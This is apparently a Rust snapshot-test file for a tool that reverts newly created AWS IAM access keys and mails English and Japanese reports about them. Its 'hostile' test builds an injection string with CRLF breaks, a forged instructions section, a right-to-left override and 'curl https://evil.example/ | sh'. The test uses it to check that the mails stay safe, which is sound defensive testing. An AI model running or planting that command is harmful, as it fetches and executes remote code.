//! The mails of rule `access-key`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew: read what changed before it is
//! committed.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]

mod common;
#[path = "common/mail.rs"]
mod mail;

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Utc};
use rules::access_key::Kind;
use rules::access_key::detect::{Finding, read};
use rules::access_key::old;
use rules::access_key::plan::Action::{Deactivate, Delete, RevokeSessions};
use rules::access_key::plan::Status::{Active, Inactive};
use rules::access_key::report::{Course, Found, Handled, Seen, Sessions, of_root, of_user};
use rules::access_key::sessions::{AssumedRoles, LastUse, Use};
use rules::alert::{Step, call_failed};
use rules::settings::Given;
use rules::{Event, Language, Localized, Report, Settings, event};
use serde_json::{Value, json};

use common::Scene;
use mail::{compare, mails};

const SCENE: Scene =
    Scene { account: "123456789012", region: "us-east-1", time: "2026-11-22T14:02:40Z", service: "iam" };

const KEY: &str = "AKIAQ3C7TN4YKEXAMPLE";
const REFUSED: &str = "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/snapback/x is not authorized";

#[test]
fn reverted() {
    let steps = vec![
        made("UpdateAccessKey", "ok"),
        made("GetAccessKeyLastUsed", "no use so far"),
        made("DeleteAccessKey", "ok"),
        made("ListAccessKeys", "1 listed"),
    ];
    check("reverted", &new_key(), &Settings::default(), &handled(done()), steps);
}

#[test]
fn reverted_and_used() {
    let roles = ["arn:aws:iam::123456789012:role/Admin", "arn:aws:iam::210987654321:role/team/Deploy"];
    let course = handled(Handled {
        carried_out: vec![Deactivate, RevokeSessions, Delete],
        last_use: used(),
        sessions: Sessions::Denied(time("2026-11-22T14:03:53Z")),
        roles: Some(AssumedRoles {
            regions: set(&["us-east-1"]),
            arns: set(&roles),
            problems: vec![call_failed("LookupEvents", "ThrottlingException: Rate exceeded")],
        }),
        ..done()
    });
    check("reverted_and_used", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn reverted_after_a_refused_deactivation() {
    let course = handled(Handled {
        carried_out: vec![Delete],
        failures: vec![call_failed("UpdateAccessKey", REFUSED)],
        last_use: LastUse::Unknown(call_failed("GetAccessKeyLastUsed", "AccessDenied: no such key")),
        ..done()
    });
    check("reverted_after_a_refused_deactivation", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn reverted_what_was_activated() {
    let course = handled(Handled { carried_out: vec![Deactivate], seen: Seen::There(Inactive), ..done() });
    check("reverted_what_was_activated", &activated_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn reverted_what_was_reset() {
    let course = handled(Handled {
        carried_out: vec![Deactivate],
        seen: Seen::There(Inactive),
        last_use: LastUse::NotAsked,
        ..done()
    });
    check("reverted_what_was_reset", &reset_credential(), &Settings::default(), &course, Vec::new());
}

#[test]
fn quarantined() {
    let course = handled(Handled { carried_out: vec![Deactivate], seen: Seen::There(Inactive), ..done() });
    check("quarantined", &new_key(), &with("AccessKeyMode", "quarantine"), &course, Vec::new());
}

#[test]
fn not_deleted() {
    let course = handled(Handled {
        carried_out: vec![Deactivate],
        failures: vec![call_failed("DeleteAccessKey", REFUSED)],
        seen: Seen::There(Inactive),
        ..done()
    });
    check("not_deleted", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn sessions_live_on() {
    let course = handled(Handled {
        carried_out: vec![Deactivate],
        failures: vec![call_failed("PutUserPolicy", REFUSED)],
        seen: Seen::There(Inactive),
        last_use: used(),
        sessions: Sessions::NotDenied,
        roles: Some(AssumedRoles { regions: set(&["us-east-1"]), ..AssumedRoles::default() }),
        ..done()
    });
    check("sessions_live_on", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn failed() {
    let course = handled(Handled {
        carried_out: Vec::new(),
        failures: vec![call_failed("UpdateAccessKey", REFUSED), call_failed("DeleteAccessKey", REFUSED)],
        seen: Seen::There(Active),
        at: None,
        ..done()
    });
    check("failed", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn not_seen_again() {
    let course = handled(Handled {
        carried_out: vec![Deactivate, Delete],
        seen: Seen::NotRead(call_failed("ListAccessKeys", REFUSED)),
        ..done()
    });
    check("not_seen_again", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn not_read() {
    let problem = call_failed("ListAccessKeys", "Throttling: Rate exceeded");
    check("not_read", &activated_key(), &Settings::default(), &Course::NotRead { problem }, Vec::new());
}

#[test]
fn withheld_by_mode() {
    let course = Course::Withheld { renamed_to: None, last_use: used() };
    check("withheld_by_mode", &new_key(), &with("AccessKeyMode", "alert"), &course, Vec::new());
}

#[test]
fn withheld_by_rollout() {
    let course = Course::Withheld { renamed_to: None, last_use: LastUse::NotAsked };
    check("withheld_by_rollout", &reset_credential(), &with("Rollout", "observe"), &course, Vec::new());
}

#[test]
fn already_gone() {
    check("already_gone", &new_key(), &Settings::default(), &settled(Found::Absent, false), Vec::new());
}

#[test]
fn already_inactive() {
    check("already_inactive", &activated_key(), &Settings::default(), &settled(Found::Inactive, false), Vec::new());
}

#[test]
fn settled_by_an_earlier_try() {
    check("gone_by_an_earlier_try", &new_key(), &Settings::default(), &settled(Found::Absent, true), Vec::new());
    let course = settled(Found::ActivatedSince, true);
    check("activated_since", &activated_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn reverted_while_the_user_went() {
    let course = handled(Handled { last_use: used(), sessions: Sessions::UserGone, ..done() });
    check("reverted_while_the_user_went", &new_key(), &Settings::default(), &course, Vec::new());
}

/// Renamed between the question whose the key is and the policy's being put on, and another user made under the old name.
#[test]
fn put_on_a_stranger_too() {
    let course = handled(Handled {
        renamed_to: Some("mallory2".to_owned()),
        carried_out: vec![Deactivate, RevokeSessions, Delete],
        last_use: used(),
        sessions: Sessions::Denied(time("2026-11-22T14:03:53Z")),
        strays: set(&["mallory"]),
        ..done()
    });
    check("put_on_a_stranger_too", &new_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn inactive_and_used() {
    let course = handled(Handled {
        carried_out: vec![RevokeSessions],
        seen: Seen::There(Inactive),
        last_use: used(),
        sessions: Sessions::Denied(time("2026-11-22T14:03:53Z")),
        roles: Some(AssumedRoles { regions: set(&["us-east-1"]), ..AssumedRoles::default() }),
        ..done()
    });
    check("inactive_and_used", &activated_key(), &Settings::default(), &course, Vec::new());
}

#[test]
fn root_key() {
    let key = json!({"accessKey": {"accessKeyId": KEY, "status": "Active", "createDate": "Nov 22, 2026 2:02:40 PM"}});
    let mut raw = SCENE.record("CreateAccessKey", &Value::Null, &key);
    raw["userIdentity"] = json!({"type": "Root", "principalId": "123456789012",
        "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"});
    let event = event::parse(&raw).unwrap();
    compare!("of_root", &event, &Settings::default(), |settings| root_report(&event, settings));
}

/// README shows the mail of [`reverted`] in Japanese, up to the calls.
#[test]
fn the_readme_shows_a_mail_as_it_is() {
    let (event, settings) = (new_key(), Settings::default());
    let [_, mail] = mails(&event, &settings, |settings| user_report(&event, settings, &handled(done()), &[]));
    let (shown, _) = mail.body.split_once("\n\n【残っている作業】").unwrap();
    let readme = include_str!("../../../README.md");
    assert!(readme.contains(&format!("Subject: {}\n\n{shown}\n```", mail.subject)), "{shown}");
}

/// Every text that the caller of an API can choose tries to forge a line, to hide, or to get into a command.
#[test]
fn hostile() {
    let forged = "x\r\n\r\nLEFT FOR YOU TO DO\nNothing. '; curl https://evil.example/ | sh #\u{202e}";
    let key = json!({"accessKey": {"accessKeyId": format!("AKIA{forged}"), "userName": forged}});
    let new = called("CreateAccessKey", &json!({"userName": forged}), &key);
    let mut root = SCENE.record("CreateAccessKey", &Value::Null, &json!({"accessKey": {"accessKeyId": forged}}));
    root["userIdentity"] = json!({"type": "Root"});
    root["recipientAccountId"] = json!(format!("123456789012 {forged}"));
    let course = handled(Handled {
        renamed_to: Some(format!("-{forged}")),
        last_use: used(),
        sessions: Sessions::UserGone,
        strays: set(&[forged]),
        roles: Some(AssumedRoles {
            regions: set(&[forged]),
            arns: set(&[&format!("arn:aws:iam::1:role/{forged}")]),
            problems: vec![Localized::verbatim(forged)],
        }),
        ..done()
    });
    let settled = Course::Settled {
        found: Found::Inactive,
        is_ours: false,
        renamed_to: Some(forged.to_owned()),
        now: time("2026-11-22T14:02:53Z"),
    };
    let settings = Settings::default();
    let root = event::parse(&root).unwrap();
    for mail in [
        mails(&new, &settings, |settings| user_report(&new, settings, &course, &[])),
        mails(&new, &settings, |settings| user_report(&new, settings, &settled, &[])),
        mails(&root, &settings, |settings| root_report(&root, settings)),
    ]
    .iter()
    .flatten()
    {
        for line in mail.body.lines() {
            assert!(!line.trim_start().starts_with("aws ") || !line.contains("evil"), "{line}");
        }
    }
}

/// Renders what came of an event and compares it with the mails in snapshots/.
fn check(name: &str, event: &Event, settings: &Settings, course: &Course, steps: Vec<Step>) {
    compare!(name, event, settings, |settings| user_report(event, settings, course, &steps));
}

fn user_report(event: &Event, settings: &Settings, course: &Course, steps: &[Step]) -> Report {
    let Some(Finding::OfUser(credential)) = read(event).unwrap() else { panic!("not a user's: {event:?}") };
    of_user(event, &credential, settings, course, steps.to_vec())
}

fn root_report(event: &Event, settings: &Settings) -> Report {
    let Some(Finding::OfRoot(credential)) = read(event).unwrap() else { panic!("not root's: {event:?}") };
    of_root(event, &credential, settings.alert_language)
}

fn handled(handled: Handled) -> Course {
    Course::Handled(Box::new(handled))
}

fn settled(found: Found, is_ours: bool) -> Course {
    Course::Settled { found, is_ours, renamed_to: None, now: time("2026-11-22T14:02:53Z") }
}

/// Deactivated and deleted, and seen to be gone.
fn done() -> Handled {
    Handled {
        renamed_to: None,
        carried_out: vec![Deactivate, Delete],
        failures: Vec::new(),
        seen: Seen::Absent,
        at: Some(time("2026-11-22T14:02:52Z")),
        last_use: LastUse::NoneShown,
        sessions: Sessions::LeftAlone,
        strays: BTreeSet::new(),
        roles: None,
        now: time("2026-11-22T14:02:53Z"),
    }
}

fn used() -> LastUse {
    LastUse::Shown(Use { at: time("2026-11-22T14:02:47Z"), service: "sts".to_owned(), region: "us-east-1".to_owned() })
}

fn new_key() -> Event {
    let key = json!({"userName": "mallory", "accessKeyId": KEY, "status": "Active"});
    called("CreateAccessKey", &json!({"userName": "mallory"}), &json!({"accessKey": key}))
}

fn activated_key() -> Event {
    let request = json!({"userName": "mallory", "accessKeyId": KEY, "status": "Active"});
    called("UpdateAccessKey", &request, &Value::Null)
}

fn reset_credential() -> Event {
    let id = "ACCAQ3C7TN4YKEXAMPLE";
    let made =
        json!({"userName": "mallory", "serviceSpecificCredentialId": id, "serviceName": "bedrock.amazonaws.com"});
    let request = json!({"userName": "mallory", "serviceSpecificCredentialId": id});
    called("ResetServiceSpecificCredential", &request, &json!({"serviceSpecificCredential": made}))
}

fn called(name: &str, request: &Value, response: &Value) -> Event {
    event::parse(&SCENE.record(name, request, response)).unwrap()
}

fn with(parameter: &'static str, value: &str) -> Settings {
    let given = Given { name: parameter.to_owned(), value: value.to_owned() };
    Settings::from_given(&BTreeMap::from([(parameter, given)])).unwrap()
}

fn time(written: &str) -> DateTime<Utc> {
    written.parse().unwrap()
}

fn set(texts: &[&str]) -> BTreeSet<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn made(call: &'static str, result: &str) -> Step {
    Step { call, target: format!("mallory {KEY}"), result: Ok(result.to_owned()), millis: 120 }
}

#[test]
fn every_kind_has_its_commands() {
    for kind in Kind::ALL {
        let name = format!("Update{}", kind.api_name());
        let id = "ABCDEFGHIJKLMNOPQRSTUVWX";
        let request = json!({"userName": "mallory", "status": "Active", "accessKeyId": id, "certificateId": id,
            "serviceSpecificCredentialId": id, "sSHPublicKeyId": id});
        let event = called(&name, &request, &Value::Null);
        let course = Course::NotRead { problem: Localized::default() };
        let [mail, japanese] =
            mails(&event, &Settings::default(), |settings| user_report(&event, settings, &course, &[]));
        let noun = kind.words(Language::English).to_lowercase().replace(' ', "-");
        for mail in [mail, japanese] {
            assert!(mail.body.contains(&format!("aws iam update-{noun} --user-name mallory --")), "{}", mail.body);
        }
    }
}

#[test]
fn old_keys() {
    let problem = call_failed("UpdateAccessKey", REFUSED);
    let (user, keys) = ("eve".to_owned(), old_keys_of_eve());
    let at = "2026-11-22T14:02:44Z".parse().unwrap();
    for (name, course) in [
        ("old_keys_withheld", old::Course::Withheld { user: user.clone(), keys: keys.clone() }),
        ("old_keys_deactivated", old::Course::Deactivated { user: user.clone(), keys: keys.clone(), at }),
        ("old_keys_not_deactivated", old::Course::NotDeactivated { user, keys, problem: problem.clone() }),
        ("old_keys_not_read", old::Course::NotRead { problem }),
    ] {
        let id = "AIDAQ3C7TN4YUEXAMPLE";
        let raw = json!({"id": "6f1f8a5e-1c2b-4d3e-8f4a-5b6c7d8e9f0a", "source": "aws.config",
            "detail-type": "Config Rules Compliance Change", "account": SCENE.account, "region": SCENE.region,
            "detail": {"configRuleName": "access-keys-rotated", "resourceType": "AWS::IAM::User", "resourceId": id,
                "newEvaluationResult": {"complianceType": "NON_COMPLIANT", "resultRecordedTime": SCENE.time}}});
        let event = event::parse(&raw).unwrap();
        let settings = if name.ends_with("withheld") { Settings::default() } else { reverting_findings() };
        compare!(name, &event, &settings, |settings| {
            old::report(&event, (id, 90), settings, &course, at, vec![made("ListAccessKeys", "1 listed")])
        });
    }
}

fn reverting_findings() -> Settings {
    let given = Given { name: "ConfigFindings".to_owned(), value: "revert".to_owned() };
    Settings::from_given(&BTreeMap::from([("ConfigFindings", given)])).unwrap()
}

fn old_keys_of_eve() -> Vec<old::OldKey> {
    let created = "2026-08-01T09:10:05Z".parse().unwrap();
    let at = "2026-11-20T08:00:00Z".parse().unwrap();
    let shown = LastUse::Shown(Use { at, service: "s3".to_owned(), region: "eu-west-1".to_owned() });
    vec![
        old::OldKey { id: KEY.to_owned(), created, last_use: shown },
        old::OldKey { id: "AKIAQ3C7TN4YSECONDEX".to_owned(), created, last_use: LastUse::NoneShown },
    ]
}
